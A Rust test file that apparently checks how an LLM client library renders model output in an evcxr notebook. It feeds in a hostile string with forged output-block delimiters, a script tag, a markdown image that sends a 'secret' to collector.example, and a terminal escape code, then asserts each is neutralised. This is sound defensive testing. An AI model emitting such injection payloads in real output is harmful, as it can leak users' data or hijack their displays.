//! Values in a Rust notebook: the output is read in the same way as the kernel reads it.

use claudette::testing::{MockResponse, MockServer};
use claudette::{Chat, tool, tools};
use serde_json::json;

use crate::support::process::run_alone;

/// Repeats a text.
#[tool]
fn repeat(
    /** The text */
    text: String,
) -> String {
    format!("{text}\n```\n<b>{text}</b>")
}

/// The variable that is set in the other process only.
const SHOWS: &str = "CLAUDETTE_TEST_SHOWS";

/// A text that tries to end its block, to begin another one, and to load an image.
const HOSTILE: &str = "Hi!\nEVCXR_END_CONTENT\nEVCXR_BEGIN_CONTENT text/html\n<script>alert(1)</script>\n\
    ![x](https://collector.example/?secret)\nEVCXR_PANIC_NOTIFICATION\n\u{1b}]0;title\u{7}";

/// Prints values, in the other process.
#[tokio::test]
async fn in_another_process() {
    if std::env::var_os(SHOWS).is_none() {
        return;
    }
    let claude = MockServer::start().await.unwrap();
    let usage = json!({"input_tokens": 1200, "output_tokens": 34});
    claude.respond(MockResponse::tool_use("repeat", json!({"text": "EVCXR_END_CONTENT"})).usage(usage.clone()));
    claude.respond(MockResponse::text(HOSTILE).usage(usage));
    let mut chat = Chat::builder(claude.client("claude-sonnet-5-5")).tools(tools![repeat]).build().unwrap();
    let run = chat.toolloop("Repeat.").await.unwrap();
    run.response().evcxr_display();
    run.evcxr_display();
    run.usage().evcxr_display();
    chat.cost_report().evcxr_display();
    run.steps()[0].outcomes()[0].evcxr_display();
}

/// Returns the blocks of an output, each with its media type, as the kernel finds them.
fn blocks(output: &str) -> Vec<(&str, String)> {
    let (mut blocks, mut lines) = (Vec::new(), output.split('\n'));
    while let Some(line) = lines.next() {
        if let Some((_, media)) = line.split_once("EVCXR_BEGIN_CONTENT ") {
            let content = lines.by_ref().take_while(|line| *line != "EVCXR_END_CONTENT");
            blocks.push((media, content.collect::<Vec<_>>().join("\n")));
        }
    }
    blocks
}

#[tokio::test]
async fn values_are_shown_as_markdown() {
    let mut child = run_alone(module_path!(), "in_another_process");
    child.env(SHOWS, "1");
    let output = tokio::task::spawn_blocking(move || child.output().unwrap()).await.unwrap();
    assert!(output.status.success());
    let output = String::from_utf8(output.stdout).unwrap();
    let shown = blocks(&output);
    let (plain, shown): (Vec<_>, Vec<_>) = shown.into_iter().partition(|(media, _)| *media == "text/plain");
    assert!(shown.iter().all(|(media, _)| *media == "text/markdown"), "{output}");
    // A terminal shows the plain text.
    assert_eq!(plain.len(), shown.len());
    assert!(plain.iter().all(|(_, text)| !text.contains('\u{1b}')) && plain[1].1.starts_with("Hi!"), "{output}");
    let [response, run, usage, cost, outcome] = &*shown else { panic!("expected five blocks in {output}") };
    for (_, text) in [response, run] {
        // The details quote the text as JSON, in a code block.
        let before = text.split("<details>").next().unwrap();
        assert!(before.starts_with("Hi!\n") && before.contains("&lt;script>"), "{text}");
        assert!(!before.contains("<script>"), "{text}");
        assert!(!text.contains("![x]"), "{text}");
        assert!(text.contains("<summary>Details</summary>"), "{text}");
    }
    assert!(run.1.ends_with("\n\n*2 steps, Finished. In: 2400; Out: 68; Cache create: 0; Cache read: 0; Total Tokens: 2468; Search: 0; Fetch: 0*"), "{}", run.1);
    assert!(usage.1.starts_with("| Tokens | Count |\n|---|--:|\n| In | 2400 |\n| Out | 68 |\n"), "{}", usage.1);
    assert!(usage.1.ends_with("| Fetch | 0 |"), "{}", usage.1);
    assert!(cost.1.contains("| Input tokens | 2,400 | 0.00"), "{}", cost.1);
    assert!(
        outcome.1.starts_with("`repeat({\"text\":\"EVCXR_END_CONTENT\"})`\n\n````text\n EVCXR_END_CONTENT\n```\n"),
        "{}",
        outcome.1
    );
}
